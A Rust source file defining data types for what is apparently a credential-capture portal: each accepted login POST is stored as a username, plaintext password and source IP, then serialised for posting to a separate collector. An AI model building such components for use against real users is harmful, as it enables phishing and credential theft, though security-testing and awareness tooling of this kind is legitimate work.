use serde::Serialize;

/// One accepted login submission.
///
/// Created exactly once when the portal accepts a POST and never mutated
/// afterwards. `captured_at_ms` is milliseconds since service start, a
/// monotonic ordering aid rather than wall-clock time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedCredential {
    pub username: String,
    pub password: String,
    pub source_address: String,
    pub captured_at_ms: u64,
}

/// Wire shape for one record posted to the collector.
#[derive(Debug, Serialize)]
pub struct CollectorPayload<'a> {
    pub username: &'a str,
    pub password: &'a str,
    pub ip: &'a str,
    pub timestamp: u64,
}

impl CapturedCredential {
    pub fn new(
        username: impl Into<String>,
        password: impl Into<String>,
        source_address: impl Into<String>,
        captured_at_ms: u64,
    ) -> Self {
        Self {
            username: username.into(),
            password: password.into(),
            source_address: source_address.into(),
            captured_at_ms,
        }
    }

    pub fn collector_payload(&self) -> CollectorPayload<'_> {
        CollectorPayload {
            username: &self.username,
            password: &self.password,
            ip: &self.source_address,
            timestamp: self.captured_at_ms,
        }
    }
}
